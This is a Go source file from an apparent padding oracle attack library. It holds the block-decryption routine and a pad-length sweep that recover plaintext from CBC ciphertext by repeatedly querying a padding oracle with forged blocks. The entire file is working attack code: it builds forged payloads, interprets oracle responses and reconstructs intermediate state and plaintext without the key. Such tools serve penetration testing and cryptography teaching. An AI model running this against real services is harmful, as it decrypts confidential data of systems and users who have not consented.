package padbreak

import (
	"github.com/pkg/errors"

	"github.com/alesforz/padbreak/pbmsg"
	"github.com/alesforz/padbreak/pbprio"
)

// ErrTries reports that every one of the 256 candidate bytes was rejected
// for some position. A correct oracle never causes this on a well-formed
// ciphertext; an always-no oracle causes it on the first byte.
var ErrTries = errors.New("tried all 256 bytes without success")

// queryer is the slice of the oracle handle the block decryptor needs.
// *pboracle.Oracle satisfies it; tests satisfy it in-process.
type queryer interface {
	Query(payload []byte) (bool, error)
}

// decryptBlock recovers the intermediate state and plaintext of one
// ciphertext block. blk is the target block, prev the block preceding it in
// the ciphertext. The working payload is twice the block size: its upper
// half is a fixed copy of blk, its lower half the forged previous block the
// oracle decrypts blk against.
//
// Byte positions are solved right to left. For position i the payload
// bytes after i are fixed so that they decrypt to the pad value blkSize-i,
// and candidate plaintext bytes for position i are tried in heuristic order
// until the oracle accepts the padding.
//
// When isFinal is set, the real plaintext already ends with PKCS#7 padding;
// a sweep of at most blkSize queries pins down the pad length and solves
// that many positions at once before the per-byte loop starts.
func decryptBlock(
	blk, prev []byte,
	orc queryer,
	chars *pbprio.Queue,
	prog pbmsg.Sink,
	block int,
	isFinal bool,
) (intermediate, plain []byte, err error) {

	blkSize := len(blk)
	intermediate = make([]byte, blkSize)
	plain = make([]byte, blkSize)

	payload := make([]byte, blkSize*2)
	copy(payload[blkSize:], blk)

	solved := 0
	if isFinal {
		solved, err = sweepPadLength(payload, prev, intermediate, plain, orc)
		if err != nil {
			return nil, nil, err
		}
		if solved > 0 {
			prog(pbmsg.Intermediate{BlockData: snapshot(intermediate, blkSize-solved, block)})
			prog(pbmsg.Plain{BlockData: snapshot(plain, blkSize-solved, block)})
		}
	}

	for i := blkSize - solved - 1; i >= 0; i-- {
		pad := byte(blkSize - i)

		// positions after i must decrypt to the current pad value
		for j := blkSize - 1; j > i; j-- {
			payload[j] = pad ^ intermediate[j]
		}

		found := false
		for _, b := range chars.Ordered() {
			// keeps the invariant: if the oracle accepts, the plaintext
			// byte at i is exactly b
			payload[i] = b ^ (pad ^ prev[i])
			prog(pbmsg.Payload{BlockData: snapshot(payload[:blkSize], i, block)})

			ok, err := orc.Query(payload)
			if err != nil {
				return nil, nil, errors.Wrapf(err, "block %d position %d", block, i)
			}
			if ok {
				intermediate[i] = b ^ prev[i]
				plain[i] = b
				chars.Hit(b)
				found = true
				break
			}
		}
		if !found {
			return nil, nil, errors.Wrapf(ErrTries, "block %d position %d", block, i)
		}

		prog(pbmsg.Intermediate{BlockData: snapshot(intermediate, i, block)})
		prog(pbmsg.Plain{BlockData: snapshot(plain, i, block)})
	}

	return intermediate, plain, nil
}

// sweepPadLength discovers the PKCS#7 pad length of the final plaintext
// block. For candidate length l the payload's last byte is set to
// l ^ 1 ^ prev[last]; only the true length turns the real trailing pad into
// a valid 0x01 ending regardless of the garbage in the rest of the forged
// block. The l=1 probe leaves the real ciphertext byte untouched.
//
// On a hit it fills the trailing l positions of intermediate and plain and
// returns l. If no candidate validates (the oracle denies everything) it
// returns 0 and the caller falls back to the full per-byte loop.
func sweepPadLength(payload, prev, intermediate, plain []byte, orc queryer) (int, error) {
	blkSize := len(prev)

	for l := 1; l <= blkSize; l++ {
		payload[blkSize-1] = byte(l) ^ 1 ^ prev[blkSize-1]

		ok, err := orc.Query(payload)
		if err != nil {
			return 0, errors.Wrap(err, "probing pad length")
		}
		if ok {
			for i := blkSize - l; i < blkSize; i++ {
				intermediate[i] = byte(l) ^ prev[i]
				plain[i] = byte(l)
			}
			return l, nil
		}
	}

	return 0, nil
}

// snapshot copies bytes into a fresh BlockData so that sinks may retain
// events while the worker keeps mutating its buffers.
func snapshot(bytes []byte, index, block int) pbmsg.BlockData {
	cp := make([]byte, len(bytes))
	copy(cp, bytes)
	return pbmsg.BlockData{Bytes: cp, Index: index, Block: block}
}
